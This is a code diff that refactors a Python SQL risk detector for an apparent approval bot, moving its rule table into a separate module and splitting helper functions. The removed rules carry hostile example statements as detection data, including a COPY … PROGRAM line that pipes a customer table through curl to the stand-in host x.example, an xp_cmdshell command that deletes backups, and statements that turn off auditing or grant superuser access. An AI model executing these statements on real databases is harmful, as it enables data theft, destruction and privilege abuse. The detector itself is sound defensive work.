@@ -11,15 +11,25 @@ from __future__ import annotations
 
 import logging
 import re
+import types
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass, field
+from typing import cast
 
 import sqlglot
 from sqlglot import exp
 from sqlglot.errors import SqlglotError
 
-from bot.config import ConfigError, Risk, Verdict
+from bot.config import ConfigError, Risk
 from bot.risk.model import Finding
+from bot.risk.sql_rules import (
+    COMMON_PII_COLUMNS,
+    EXAMPLE_PII,
+    RULES_BY_ID,
+    SQL_RULES,
+    SqlRule,
+    sensitive_column_risk,
+)
 
 logging.getLogger("sqlglot").setLevel(logging.CRITICAL)
 
@@ -27,466 +37,6 @@ PiiLookup = Callable[[str], Sequence[str] | None]
 """Table name → its catalogued PII fields, or None when the table is not catalogued."""
 
 DIALECTS = ("postgres", "mysql", "snowflake", "bigquery", "databricks", "tsql")
-
-# Column names that are personal data wherever they live; used only for tables
-# the catalog does not know, so a bare install still notices `SELECT ssn …`.
-COMMON_PII_COLUMNS = frozenset(
-    {
-        "ssn",
-        "social_security_number",
-        "sin",
-        "national_id",
-        "passport_number",
-        "email",
-        "email_address",
-        "personal_email",
-        "phone",
-        "phone_number",
-        "mobile",
-        "date_of_birth",
-        "dob",
-        "birth_date",
-        "birthdate",
-        "full_name",
-        "first_name",
-        "last_name",
-        "home_address",
-        "street_address",
-        "address",
-        "credit_card",
-        "card_number",
-        "cc_number",
-        "cvv",
-        "iban",
-        "account_number",
-        "salary",
-        "password",
-        "password_hash",
-        "tax_id",
-        "ip_address",
-    }
-)
-
-# Column names whose values are harmful to expose whatever the table: a column so
-# named needs a second person even when the catalog has never heard of its table.
-# The first group is worse (identity theft, fraud, account takeover): high risk.
-_SENSITIVE_HIGH_COLUMN = re.compile(
-    r"(?:ssn|ssns|social_security\w*|sin|national_id\w*|national_insurance\w*|tax_id\w*|tin|"
-    r"passport(?:_?(?:number|no|num|id))?|drivers?_licen[cs]e(?:_?(?:number|no|num|id))?|"
-    r"card_number|card_no|cc_number|cc_num|credit_card\w*|pan|cvv\w*|cvc\w*|card_cvv|"
-    r"iban|bank_account\w*|account_number|routing_number|sort_code|"
-    r"password\w*|passwd|pass_hash|secret|\w+_secret|secret_\w+|token|\w+_token|api_key\w*|"
-    r"private_key\w*|access_key\w*|secret_key\w*)"
-)
-_SENSITIVE_MEDIUM_COLUMN = re.compile(
-    r"(?:date_of_birth|dob|birth_?date|birthday|salary|salaries|\w+_salary|salary_\w+|"
-    r"base_pay|compensation\w*|bonus_amount|medical\w*|diagnosis\w*|health_\w+)"
-)
-
-
-def sensitive_column_risk(column: str) -> Risk | None:
-    """'high' / 'medium' for a column name that is sensitive wherever it lives, else None."""
-    name = column.lower()
-    if _SENSITIVE_HIGH_COLUMN.fullmatch(name):
-        return "high"
-    if _SENSITIVE_MEDIUM_COLUMN.fullmatch(name):
-        return "medium"
-    return None
-
-
-@dataclass(frozen=True, slots=True)
-class SqlRule:
-    """One SQL rule: what it flags, how bad it is, and the examples that prove it."""
-
-    id: str
-    category: str
-    risk: Risk
-    verdict: Verdict
-    reason: str
-    """Template; `{target}` is replaced with the table/role/location involved."""
-    match: tuple[str, ...]
-    not_match: tuple[str, ...]
-
-
-def _rule(
-    id: str,
-    category: str,
-    risk: Risk,
-    verdict: Verdict,
-    reason: str,
-    match: Sequence[str],
-    not_match: Sequence[str],
-) -> SqlRule:
-    return SqlRule(id, category, risk, verdict, reason, tuple(match), tuple(not_match))
-
-
-SQL_RULES: tuple[SqlRule, ...] = (
-    _rule(
-        "sql.drop_database",
-        "destructive",
-        "critical",
-        "require_approval",
-        "Drops a whole database or schema ({target}) and every table in it.",
-        ["DROP DATABASE analytics", "DROP SCHEMA crm CASCADE"],
-        ["DROP TABLE tmp_import", "SELECT 'DROP DATABASE x'"],
-    ),
-    _rule(
-        "sql.drop",
-        "destructive",
-        "high",
-        "require_approval",
-        "Drops {target}; its data is gone unless restored from a backup.",
-        ["DROP TABLE customers", "drop view if exists reporting.v_customers"],
-        ["SELECT * FROM drops", "DROP INDEX idx_orders_created"],
-    ),
-    _rule(
-        "sql.truncate",
-        "destructive",
-        "high",
-        "require_approval",
-        "Empties {target} (TRUNCATE cannot be filtered or rolled back in most databases).",
-        ["TRUNCATE TABLE payments", "truncate orders, order_items"],
-        ["SELECT truncate_date FROM orders WHERE id = 1"],
-    ),
-    _rule(
-        "sql.alter_drop",
-        "destructive",
-        "high",
-        "require_approval",
-        "Alters {target} to drop a column or constraint; that data is lost.",
-        ["ALTER TABLE customers DROP COLUMN ssn", "ALTER TABLE orders DROP CONSTRAINT fk_cust"],
-        ["ALTER TABLE orders ADD COLUMN note text"],
-    ),
-    _rule(
-        "sql.delete_all",
-        "destructive",
-        "high",
-        "require_approval",
-        "Deletes every row of {target}: no WHERE clause, or one that is always true.",
-        ["DELETE FROM customers", "DELETE FROM orders WHERE 1=1", "delete from t where 'a'='a'"],
-        ["DELETE FROM customers WHERE id = 7", "DELETE FROM sessions WHERE expires_at < now()"],
-    ),
-    _rule(
-        "sql.update_all",
-        "destructive",
-        "high",
-        "require_approval",
-        "Updates every row of {target}: no WHERE clause, or one that is always true.",
-        ["UPDATE customers SET email = NULL", "UPDATE users SET role='admin' WHERE id=3 OR TRUE"],
-        ["UPDATE customers SET email = 'a@b.example' WHERE id = 7"],
-    ),
-    _rule(
-        "sql.bulk_change_pii",
-        "pii",
-        "high",
-        "require_approval",
-        "Deletes or changes many rows of {target}, which holds personal data: the WHERE is a "
-        "range or condition, not a lookup of particular records by key.",
-        [
-            "DELETE FROM customers WHERE created_at < '2021-01-01'",
-            "UPDATE customers SET email = NULL WHERE churn_score > 0.8",
-            "DELETE FROM customers WHERE id IN (SELECT customer_id FROM churned)",
-            "MERGE INTO customers c USING churned x ON c.id = x.id WHEN MATCHED THEN DELETE",
-        ],
-        [
-            "DELETE FROM customers WHERE id = 7",
-            "UPDATE customers SET email = NULL WHERE email = 'pat@example.com'",
-            "DELETE FROM sessions WHERE expires_at < now()",
-        ],
-    ),
-    _rule(
-        "sql.replace_table",
-        "destructive",
-        "high",
-        "require_approval",
-        "Replaces the table {target}: every row it held is dropped and rewritten "
-        "(CREATE OR REPLACE TABLE, INSERT OVERWRITE).",
-        [
-            "CREATE OR REPLACE TABLE analytics.orders AS SELECT * FROM staging.orders",
-            "INSERT OVERWRITE TABLE sales.orders SELECT * FROM sales.orders_tmp",
-        ],
-        [
-            "CREATE OR REPLACE VIEW v AS SELECT 1",
-            "CREATE OR REPLACE TEMPORARY TABLE t AS SELECT 1",
-            "INSERT INTO sales.orders SELECT * FROM x",
-            "CREATE TABLE IF NOT EXISTS t (id int)",
-        ],
-    ),
-    _rule(
-        "sql.history_off",
-        "backups",
-        "high",
-        "require_approval",
-        "Turns off or purges the database's own recovery history ({target}): time travel, "
-        "point-in-time restore or WAL archiving, so a mistake can no longer be undone.",
-        [
-            "ALTER TABLE analytics.orders SET DATA_RETENTION_TIME_IN_DAYS = 0",
-            "ALTER DATABASE prod SET DATA_RETENTION_TIME_IN_DAYS=0",
-            "VACUUM sales.orders RETAIN 0 HOURS",
-            "SET spark.databricks.delta.retentionDurationCheck.enabled = false",
-            "ALTER TABLE t SET TBLPROPERTIES ('delta.logRetentionDuration' = 'interval 0 days')",
-            "ALTER DATABASE ledger SET RECOVERY SIMPLE",
-            "ALTER SYSTEM SET archive_mode = off",
-        ],
-        [
-            "ALTER TABLE analytics.orders SET DATA_RETENTION_TIME_IN_DAYS = 30",
-            "VACUUM sales.orders",
-            "VACUUM sales.orders RETAIN 168 HOURS",
-            "ALTER DATABASE ledger SET RECOVERY FULL",
-            "ALTER SYSTEM SET archive_mode = on",
-        ],
-    ),
-    _rule(
-        "sql.grant_public",
-        "access",
-        "critical",
-        "require_approval",
-        "Grants access on {target} to everyone (PUBLIC / allUsers / any host).",
-        [
-            "GRANT SELECT ON customers TO PUBLIC",
-            "grant all on schema crm to public",
-            'GRANT `roles/bigquery.dataViewer` ON SCHEMA `p.crm` TO "allAuthenticatedUsers"',
-        ],
-        ["GRANT SELECT ON reports TO analyst", "GRANT SELECT ON shop.products TO 'app'@'10.0.%'"],
-    ),
-    _rule(
-        "sql.grant_external",
-        "access",
-        "high",
-        "require_approval",
-        "Grants access on {target} to someone outside the company.",
-        ['GRANT `roles/bigquery.dataViewer` ON SCHEMA `p.crm` TO "user:pat@gmail.com"'],
-        ['GRANT `roles/bigquery.dataViewer` ON SCHEMA `p.crm` TO "group:bi@example.com"'],
-    ),
-    _rule(
-        "sql.grant_schema_wide",
-        "access",
-        "high",
-        "require_approval",
-        "Grants access on all tables in a schema ({target}) at once, present and future data.",
-        ["GRANT SELECT ON ALL TABLES IN SCHEMA public TO analyst"],
-        ["GRANT SELECT ON public.reports TO analyst"],
-    ),
-    _rule(
-        "sql.grant_to_share",
-        "access",
-        "critical",
-        "require_approval",
-        "Grants {target} to a Snowflake share: the data becomes visible to another account.",
-        [
-            "GRANT SELECT ON TABLE crm.customers TO SHARE partner_share",
-            "ALTER SHARE partner_share ADD ACCOUNTS = acme.partner1",
-        ],
-        ["GRANT SELECT ON TABLE crm.customers TO ROLE analyst", "ALTER SHARE s SET COMMENT = 'x'"],
-    ),
-    _rule(
-        "sql.grant_admin",
-        "access",
-        "critical",
-        "require_approval",
-        "Gives {target} administrative or all privileges.",
-        [
-            "GRANT ALL PRIVILEGES ON DATABASE prod TO contractor",
-            "GRANT ROLE ACCOUNTADMIN TO USER bob",
-            "GRANT postgres TO intern",
-            "GRANT ALL ON *.* TO 'app'@'%' WITH GRANT OPTION",
-        ],
-        ["GRANT SELECT ON reports TO analyst", "GRANT analyst TO bob"],
-    ),
-    _rule(
-        "sql.grant",
-        "access",
-        "medium",
-        "allow",
-        "Changes who can access {target}.",
-        ["GRANT SELECT ON reports TO analyst", "REVOKE ALL ON customers FROM analyst"],
-        ["SELECT grantee FROM information_schema.role_table_grants"],
-    ),
-    _rule(
-        "sql.privileged_role",
-        "access",
-        "critical",
-        "require_approval",
-        "Gives role {target} superuser-level powers (bypasses every permission check).",
-        ["ALTER ROLE bob SUPERUSER", "ALTER USER app WITH BYPASSRLS", "CREATE ROLE x SUPERUSER"],
-        ["ALTER ROLE bob SET search_path = app"],
-    ),
-    _rule(
-        "sql.role_change",
-        "access",
-        "medium",
-        "require_approval",
-        "Creates, changes or removes database login/role {target}.",
-        [
-            "CREATE USER eve WITH PASSWORD 'hunter2'",
-            "CREATE ROLE etl LOGIN",
-            "ALTER ROLE bob WITH PASSWORD 'x'",
-            "DROP USER bob",
-        ],
-        [
-            "ALTER ROLE analyst_bot SET statement_timeout = '30s'",
-            "CREATE ROLE reporting NOLOGIN",
-            "CREATE TABLE users (id int)",
-        ],
-    ),
-    _rule(
-        "sql.disable_rls",
-        "access",
-        "high",
-        "require_approval",
-        "Turns off row-level security on {target}: every reader sees every row.",
-        [
-            "ALTER TABLE customers DISABLE ROW LEVEL SECURITY",
-            "DROP POLICY tenant_isolation ON customers",
-            "SET row_security = off",
-        ],
-        ["ALTER TABLE customers ENABLE ROW LEVEL SECURITY", "SET search_path = app"],
-    ),
-    _rule(
-        "sql.masking_off",
-        "access",
-        "high",
-        "require_approval",
-        "Removes column masking on {target}: readers see the raw personal data.",
-        [
-            "ALTER TABLE crm.customers MODIFY COLUMN email UNSET MASKING POLICY",
-            "DROP MASKING POLICY email_mask",
-        ],
-        ["ALTER TABLE crm.customers MODIFY COLUMN email SET MASKING POLICY email_mask"],
-    ),
-    _rule(
-        "sql.audit_off",
-        "security-controls",
-        "high",
-        "require_approval",
-        "Turns off the database's audit or statement logging ({target}): access goes unrecorded.",
-        [
-            "ALTER SYSTEM SET pgaudit.log = 'none'",
-            "SET GLOBAL general_log = 'OFF'",
-            "ALTER SERVER AUDIT trail WITH (STATE = OFF)",
-            "NOAUDIT ALL",
-        ],
-        ["ALTER SYSTEM SET work_mem = '64MB'", "SET GLOBAL general_log = 'ON'"],
-    ),
-    _rule(
-        "sql.copy_program",
-        "exfiltration",
-        "critical",
-        "require_approval",
-        "Runs a shell command on the database server ({target}): COPY … PROGRAM, xp_cmdshell.",
-        [
-            "COPY customers TO PROGRAM 'curl -T - https://x.example'",
-            "EXEC sp_configure 'xp_cmdshell', 1",
-            "EXEC xp_cmdshell 'del /s /q D:\\backups'",
-        ],
-        ["COPY customers FROM '/tmp/import.csv'", "EXEC sp_configure 'xp_cmdshell', 0"],
-    ),
-    _rule(
-        "sql.export",
-        "exfiltration",
-        "high",
-        "require_approval",
-        "Exports {data} to {target}, outside the database's access controls.",
-        [
-            "COPY customers TO '/tmp/customers.csv'",
-            "SELECT * FROM customers INTO OUTFILE '/tmp/c.csv'",
-            "UNLOAD ('select * from customers') TO 's3://bucket/c_' IAM_ROLE 'arn:r'",
-            "COPY INTO @ext_stage/customers FROM crm.customers",
-            "EXPORT DATA OPTIONS(uri='gs://b/*.csv', format='CSV') AS SELECT * FROM ds.customers",
-            "GET @~/export/ file:///Users/alex/Downloads/",
-        ],
-        [
-            "COPY customers FROM '/tmp/c.csv'",
-            "COPY INTO crm.customers FROM @load_stage",
-            "COPY (SELECT plan, count(*) FROM customers GROUP BY plan) TO '/tmp/plans.csv'",
-        ],
-    ),
-    _rule(
-        "sql.export_summary",
-        "exfiltration",
-        "low",
-        "allow",
-        "Exports query results without personal-data columns to {target}.",
-        [
-            "COPY (SELECT plan, count(*) FROM customers GROUP BY plan) TO '/tmp/plans.csv'",
-            "SELECT sku, price FROM products INTO OUTFILE '/tmp/prices.csv'",
-        ],
-        ["COPY customers TO '/tmp/customers.csv'", "SELECT email FROM x INTO OUTFILE '/tmp/e'"],
-    ),
-    _rule(
-        "sql.copy_stdout",
-        "exfiltration",
-        "medium",
-        "allow",
-        "Copies {target} out to the client in bulk.",
-        ["COPY customers TO STDOUT WITH CSV"],
-        ["COPY customers FROM STDIN"],
-    ),
-    _rule(
-        "sql.select_pii",
-        "pii",
-        "medium",
-        "require_approval",
-        "Reads personal data: {target}.",
-        ["SELECT email, plan FROM customers", "SELECT * FROM crm.customers WHERE id = 1"],
-        [
-            "SELECT plan, count(*) FROM customers GROUP BY plan",
-            "SELECT email FROM newsletter_optins",
-        ],
-    ),
-    _rule(
-        "sql.select_pii_uncatalogued",
-        "pii",
-        "medium",
-        "allow",
-        "Reads columns that usually hold personal data ({target}) from a table not in the catalog.",
-        ["SELECT ssn, full_name FROM people", "SELECT email, phone FROM leads"],
-        [
-            "SELECT id, created_at FROM people",
-            "SELECT email FROM customers",
-            "SELECT date_of_birth FROM people",
-        ],
-    ),
-    _rule(
-        "sql.select_sensitive_uncatalogued",
-        "pii",
-        "medium",
-        "require_approval",
-        "Reads columns whose names say they hold sensitive data ({target}: government IDs, "
-        "card or bank numbers, credentials, birth dates or pay) from a table not in the "
-        "catalog.",
-        [
-            "SELECT ssn, salary FROM employees",
-            "SELECT full_name, date_of_birth FROM crm.people",
-            "SELECT u.api_token FROM app_users u",
-            "SELECT card_number, cvv FROM payments_raw",
-        ],
-        [
-            "SELECT email, phone FROM leads",
-            "SELECT count(ssn) FROM employees",
-            "SELECT id FROM employees WHERE salary > 100000",
-            "SELECT token_count, passport_office FROM visits",
-            "SELECT ssn FROM customers",
-        ],
-    ),
-    _rule(
-        "sql.unparsed",
-        "parse",
-        "medium",
-        "require_approval",
-        "A statement that changes data or access could not be parsed, so it cannot be checked.",
-        ["DELETE FROM WHERE AND ((", "GRANT ?? ON"],
-        ["SELECT 1"],
-    ),
-)
-RULES_BY_ID: dict[str, SqlRule] = {r.id: r for r in SQL_RULES}
-
-# Example catalog used only to prove the PII rules' own examples at start-up.
-_EXAMPLE_PII: dict[str, tuple[str, ...]] = {
-    "customers": ("email", "full_name", "ssn"),
-    "crm.customers": ("email", "full_name", "ssn"),
-    "newsletter_optins": (),
-}
 
 
 @dataclass(slots=True)
@@ -733,10 +283,20 @@ def _is_tautology(cond: exp.Expression | None) -> bool:
     """True for conditions every row satisfies: 1=1, 'a'='a', x=x, … OR TRUE, WHERE 1."""
     if cond is None:
         return False
-    if isinstance(cond, exp.Where):
+    if isinstance(cond, exp.Where | exp.Paren):
         return _is_tautology(cond.this)
-    if isinstance(cond, exp.Paren):
-        return _is_tautology(cond.this)
+    if isinstance(cond, exp.Or):
+        return _is_tautology(cond.this) or _is_tautology(cond.expression)
+    if isinstance(cond, exp.And):
+        return _is_tautology(cond.this) and _is_tautology(cond.expression)
+    if isinstance(cond, exp.Not):
+        inner = cond.this.this if isinstance(cond.this, exp.Paren) else cond.this
+        return isinstance(inner, exp.Boolean) and not inner.this
+    return _always_true(cond)
+
+
+def _always_true(cond: exp.Expression) -> bool:
+    """A condition with no AND/OR/NOT in it that holds for every row."""
     if isinstance(cond, exp.Boolean):
         return bool(cond.this)
     if isinstance(cond, exp.Literal):
@@ -746,30 +306,30 @@ def _is_tautology(cond: exp.Expression | None) -> bool:
             return float(cond.this) != 0
         except ValueError:
             return False
-    if isinstance(cond, exp.Or):
-        return _is_tautology(cond.this) or _is_tautology(cond.expression)
-    if isinstance(cond, exp.And):
-        return _is_tautology(cond.this) and _is_tautology(cond.expression)
-    if isinstance(cond, exp.Not):
-        inner = cond.this.this if isinstance(cond.this, exp.Paren) else cond.this
-        return isinstance(inner, exp.Boolean) and not inner.this
     if isinstance(cond, exp.EQ | exp.GTE | exp.LTE | exp.NullSafeEQ):
         return cond.this == cond.expression and not cond.this.find(exp.Anonymous, exp.Rand)
     if isinstance(cond, exp.NEQ | exp.GT | exp.LT):
-        a, b = cond.this, cond.expression
-        if isinstance(a, exp.Literal) and isinstance(b, exp.Literal) and a.is_number == b.is_number:
-            try:
-                x, y = (float(a.this), float(b.this)) if a.is_number else (a.this, b.this)
-            except ValueError:
-                return False
-            if isinstance(cond, exp.NEQ):
-                return x != y
-            return x > y if isinstance(cond, exp.GT) else x < y
-        return False
+        return _literals_compare_true(cond)
     if isinstance(cond, exp.Like):
         pattern = cond.expression
         return isinstance(pattern, exp.Literal) and pattern.is_string and set(pattern.this) <= {"%"}
     return False
+
+
+def _literals_compare_true(cond: exp.NEQ | exp.GT | exp.LT) -> bool:
+    """`1 <> 2`, `2 > 1`, `'a' <> 'b'`: two literals of one kind whose comparison holds."""
+    a, b = cond.this, cond.expression
+    if not (
+        isinstance(a, exp.Literal) and isinstance(b, exp.Literal) and a.is_number == b.is_number
+    ):
+        return False
+    try:
+        x, y = (float(a.this), float(b.this)) if a.is_number else (a.this, b.this)
+    except ValueError:
+        return False
+    if isinstance(cond, exp.NEQ):
+        return bool(x != y)
+    return bool(x > y) if isinstance(cond, exp.GT) else bool(x < y)
 
 
 def _is_key_lookup(cond: exp.Expression) -> bool:
@@ -799,6 +359,71 @@ def _is_key_lookup(cond: exp.Expression) -> bool:
             and all(isinstance(v, exp.Literal | exp.Placeholder | exp.Parameter) for v in values)
         )
     return False
+
+
+class _Sources:
+    """What each name in a query scope stands for: alias or table name → the real table,
+    None for a subquery or a CTE."""
+
+    def __init__(self, ctes: set[str]) -> None:
+        self.ctes = ctes
+        self.scopes: dict[int, dict[str, str | None]] = {}
+
+    def real(self, t: exp.Table) -> str | None:
+        name = _table_name(t)
+        if not name or (not t.db and name in self.ctes):
+            return None
+        return name
+
+    def of(self, scope: exp.Expression) -> dict[str, str | None]:
+        key = id(scope)
+        if key not in self.scopes:
+            self.scopes[key] = self._read(scope)
+        return self.scopes[key]
+
+    def _read(self, scope: exp.Expression) -> dict[str, str | None]:
+        found: dict[str, str | None] = {}
+        for node in _scope_sources(scope):
+            if isinstance(node, exp.Table):
+                name = self.real(node)
+                found[node.alias_or_name.lower()] = name
+                if name:
+                    found.setdefault(name, name)
+                    found.setdefault(name.rsplit(".", 1)[-1], name)
+            elif isinstance(node, exp.Expression):
+                found[node.alias_or_name.lower()] = None
+        return found
+
+
+def _scope_sources(scope: exp.Expression) -> list[exp.Expression]:
+    """What a SELECT/UPDATE/DELETE reads from: its target, FROM, USING and JOINs."""
+    nodes: list[exp.Expression] = []
+    if isinstance(scope, exp.Update | exp.Delete) and isinstance(scope.this, exp.Table):
+        nodes.append(scope.this)
+    frm = scope.args.get("from_") or scope.args.get("from")
+    if isinstance(frm, exp.From):
+        nodes.append(frm.this)
+    using = scope.args.get("using")
+    if isinstance(using, list):
+        nodes.extend(using)
+    nodes.extend(j.this for j in scope.args.get("joins") or [])
+    return nodes
+
+
+def _grant_parts(clean: str) -> tuple[str, str, str] | None:
+    """GRANT <what> [ON <object>] TO <grantees> [WITH … OPTION] → (what, object, grantees),
+    split with plain string search."""
+    low = clean.lower()
+    to_at = low.rfind(" to ")
+    if not low.startswith("grant ") or to_at < 6:
+        return None
+    head = clean[6:to_at].strip()
+    to = _GRANT_OPTION.sub("", clean[to_at + 4 : to_at + 1004]).strip()
+    on_at = head.lower().find(" on ")
+    what, on = (head[:on_at], head[on_at + 4 :].strip()) if on_at >= 0 else (head, "")
+    if not what or not to:
+        return None
+    return what, on, to
 
 
 class SqlDetector:
@@ -922,138 +547,168 @@ class SqlDetector:
     # -- statements sqlglot does not model ------------------------------------------------------
 
     def _raw(self, clean: str, result: SqlResult, *, fallback: bool = False) -> bool:
-        """Statements read with our own patterns. Returns True when fully handled."""
-        low = clean.lower()
-        head = low.split(" ", 1)[0]
-        if head in ("exec", "execute", "sp_configure", "xp_cmdshell", "master..xp_cmdshell"):
-            m = _XP_CMDSHELL.match(clean)
-            if m:
-                target = m.group("c") or "xp_cmdshell switched on"
-                self._add(result, "sql.copy_program", target.strip("'")[:60], clean)
-                return True
-        if head in ("alter", "vacuum", "set"):
-            m = _HISTORY_OFF.match(clean)
-            if m:
-                target = next((g for g in m.groups() if g), "recovery history")
-                self._add(result, "sql.history_off", _unquote(target), clean)
-                return True
-        if head in ("alter", "drop"):
-            m = _SHARE_ACCOUNTS.match(clean)
-            if m:
-                self._add(result, "sql.grant_to_share", f"share {m.group('s')}", clean)
-                return True
-            m = _MASKING_OFF.match(clean)
-            if m:
-                if m.group("t"):
-                    table = _unquote(m.group("t"))
-                    result.use(table).columns.add(_unquote(m.group("c")))
-                    target = f"{table}.{_unquote(m.group('c'))}"
-                else:
-                    target = f"every column using {m.group('p')}"
-                self._add(result, "sql.masking_off", target, clean)
-                return True
-        if head == "get":
-            m = _GET_STAGE.match(clean)
-            if m:
-                result.locations.append(m.group("dest"))
-                result.exports.append((m.group("dest"), clean))
-                return True
-        if head in ("alter", "set", "drop", "noaudit", "uninstall"):
-            m = _AUDIT_OFF.match(clean)
-            if m:
-                target = next((g for g in m.groups() if g), "audit logging").strip()
-                self._add(result, "sql.audit_off", target[:60], clean)
-                return True
-        if head == "grant":
-            return self._raw_grant(clean, result)
-        if head == "revoke":
-            self._add(result, "sql.grant", clean[6:60].strip(), clean)
-            return True
-        if head in ("create", "alter", "drop"):
-            m = _RLS_OFF.match(clean) or _UNSET_ROW_ACCESS.match(clean)
-            if m:
-                table = _unquote(m.group("t"))
-                result.use(table)
-                self._add(result, "sql.disable_rls", table, clean)
-                return True
-            m = _DROP_POLICY.match(clean)
-            if m:
-                table = _unquote(m.group("t") or "") or "a table"
-                if m.group("t"):
-                    result.use(table)
-                self._add(result, "sql.disable_rls", table, clean)
-                return True
-            m = _ROLE_STMT.match(clean)
-            if m:
-                name = _unquote(m.group("name"))
-                rest = m.group("rest")
-                verb, kind = m.group("verb").lower(), m.group("kind").lower()
-                if _PRIVILEGED_OPTS.search(rest) and not _NEG_PRIV.search(rest):
-                    self._add(result, "sql.privileged_role", name, clean)
-                elif (
-                    verb == "drop"
-                    or (verb == "create" and kind in ("user", "login"))
-                    or _LOGIN_CHANGE.search(rest)
-                ):
-                    self._add(result, "sql.role_change", name, clean)
-                return True
-            if fallback and head == "drop":
-                m = _DROP_KIND.match(clean)
-                if m:
-                    self._drop(m.group("kind").upper(), [_unquote(m.group("t"))], clean, result)
-                    return True
-            return False
-        if head == "set" and _ROW_SECURITY_OFF.match(clean):
-            self._add(result, "sql.disable_rls", "this session", clean)
-            return True
-        if head == "unload":
-            m = _UNLOAD.match(clean)
-            if m:
-                dest = m.group(2)
-                result.locations.append(dest)
-                result.exports.append((dest, clean))
-                self._statement(m.group(1).replace("''", "'"), result)
-                return True
-            return False
-        if head == "copy":
-            m = _COPY_PROGRAM.match(clean)
-            if m:
-                program = m.group(1).strip("'")
-                self._add(result, "sql.copy_program", program[:60], clean)
-                tree = self._parse(clean)
-                if tree is not None:
-                    self._collect_tables(tree, result, whole_rows=True)
-                return True
-            return False
-        if head == "select" or head == "with" or head == "(":
-            m = _OUTFILE.search(clean)
-            if m:
-                dest = m.group(1).strip("'\"")
-                result.locations.append(dest)
-                result.exports.append((dest, clean))
-                rest = _OUTFILE_TAIL.sub(" ", clean)
-                tree = self._parse(rest)
-                if tree is not None:
-                    self._tree(tree, rest, result)
-                return True
+        """Statements read with our own patterns (`_RAW_READERS`, by first word). Returns
+        True when fully handled."""
+        for read in _RAW_READERS.get(clean.lower().split(" ", 1)[0], ()):
+            handled = read(self, clean, result, fallback)
+            if handled is not None:
+                return handled
         return False
 
+    # Each reader: True when it handled the statement, False when no later one may, None
+    # when it is not this reader's statement.
+
+    def _raw_xp_cmdshell(self, clean: str, result: SqlResult, _fallback: bool) -> bool | None:
+        m = _XP_CMDSHELL.match(clean)
+        if not m:
+            return None
+        target = m.group("c") or "xp_cmdshell switched on"
+        self._add(result, "sql.copy_program", target.strip("'")[:60], clean)
+        return True
+
+    def _raw_history_off(self, clean: str, result: SqlResult, _fallback: bool) -> bool | None:
+        m = _HISTORY_OFF.match(clean)
+        if not m:
+            return None
+        target = next((g for g in m.groups() if g), "recovery history")
+        self._add(result, "sql.history_off", _unquote(target), clean)
+        return True
+
+    def _raw_share_accounts(self, clean: str, result: SqlResult, _fallback: bool) -> bool | None:
+        m = _SHARE_ACCOUNTS.match(clean)
+        if not m:
+            return None
+        self._add(result, "sql.grant_to_share", f"share {m.group('s')}", clean)
+        return True
+
+    def _raw_masking_off(self, clean: str, result: SqlResult, _fallback: bool) -> bool | None:
+        m = _MASKING_OFF.match(clean)
+        if not m:
+            return None
+        if m.group("t"):
+            table = _unquote(m.group("t"))
+            result.use(table).columns.add(_unquote(m.group("c")))
+            target = f"{table}.{_unquote(m.group('c'))}"
+        else:
+            target = f"every column using {m.group('p')}"
+        self._add(result, "sql.masking_off", target, clean)
+        return True
+
+    def _raw_get_stage(self, clean: str, result: SqlResult, _fallback: bool) -> bool | None:
+        m = _GET_STAGE.match(clean)
+        if not m:
+            return None
+        result.locations.append(m.group("dest"))
+        result.exports.append((m.group("dest"), clean))
+        return True
+
+    def _raw_audit_off(self, clean: str, result: SqlResult, _fallback: bool) -> bool | None:
+        m = _AUDIT_OFF.match(clean)
+        if not m:
+            return None
+        target = next((g for g in m.groups() if g), "audit logging").strip()
+        self._add(result, "sql.audit_off", target[:60], clean)
+        return True
+
+    def _raw_grant_statement(self, clean: str, result: SqlResult, _fallback: bool) -> bool:
+        return self._raw_grant(clean, result)
+
+    def _raw_revoke(self, clean: str, result: SqlResult, _fallback: bool) -> bool:
+        self._add(result, "sql.grant", clean[6:60].strip(), clean)
+        return True
+
+    def _raw_rls_off(self, clean: str, result: SqlResult, _fallback: bool) -> bool | None:
+        m = _RLS_OFF.match(clean) or _UNSET_ROW_ACCESS.match(clean)
+        if not m:
+            return None
+        table = _unquote(m.group("t"))
+        result.use(table)
+        self._add(result, "sql.disable_rls", table, clean)
+        return True
+
+    def _raw_drop_policy(self, clean: str, result: SqlResult, _fallback: bool) -> bool | None:
+        m = _DROP_POLICY.match(clean)
+        if not m:
+            return None
+        table = _unquote(m.group("t") or "") or "a table"
+        if m.group("t"):
+            result.use(table)
+        self._add(result, "sql.disable_rls", table, clean)
+        return True
+
+    def _raw_role(self, clean: str, result: SqlResult, _fallback: bool) -> bool | None:
+        m = _ROLE_STMT.match(clean)
+        if not m:
+            return None
+        name = _unquote(m.group("name"))
+        rest = m.group("rest")
+        verb, kind = m.group("verb").lower(), m.group("kind").lower()
+        if _PRIVILEGED_OPTS.search(rest) and not _NEG_PRIV.search(rest):
+            self._add(result, "sql.privileged_role", name, clean)
+        elif (
+            verb == "drop"
+            or (verb == "create" and kind in ("user", "login"))
+            or _LOGIN_CHANGE.search(rest)
+        ):
+            self._add(result, "sql.role_change", name, clean)
+        return True
+
+    def _raw_ddl_rest(self, clean: str, result: SqlResult, fallback: bool) -> bool:
+        """The last word on CREATE/ALTER/DROP: a DROP sqlglot could not parse, or nothing."""
+        m = _DROP_KIND.match(clean) if fallback and clean[:4].lower() == "drop" else None
+        if m:
+            self._drop(m.group("kind").upper(), [_unquote(m.group("t"))], clean, result)
+            return True
+        return False
+
+    def _raw_row_security_off(self, clean: str, result: SqlResult, _fallback: bool) -> bool | None:
+        if not _ROW_SECURITY_OFF.match(clean):
+            return None
+        self._add(result, "sql.disable_rls", "this session", clean)
+        return True
+
+    def _raw_unload(self, clean: str, result: SqlResult, _fallback: bool) -> bool:
+        m = _UNLOAD.match(clean)
+        if not m:
+            return False
+        dest = m.group(2)
+        result.locations.append(dest)
+        result.exports.append((dest, clean))
+        self._statement(m.group(1).replace("''", "'"), result)
+        return True
+
+    def _raw_copy_program(self, clean: str, result: SqlResult, _fallback: bool) -> bool:
+        m = _COPY_PROGRAM.match(clean)
+        if not m:
+            return False
+        program = m.group(1).strip("'")
+        self._add(result, "sql.copy_program", program[:60], clean)
+        tree = self._parse(clean)
+        if tree is not None:
+            self._collect_tables(tree, result, whole_rows=True)
+        return True
+
+    def _raw_outfile(self, clean: str, result: SqlResult, _fallback: bool) -> bool | None:
+        m = _OUTFILE.search(clean)
+        if not m:
+            return None
+        dest = m.group(1).strip("'\"")
+        result.locations.append(dest)
+        result.exports.append((dest, clean))
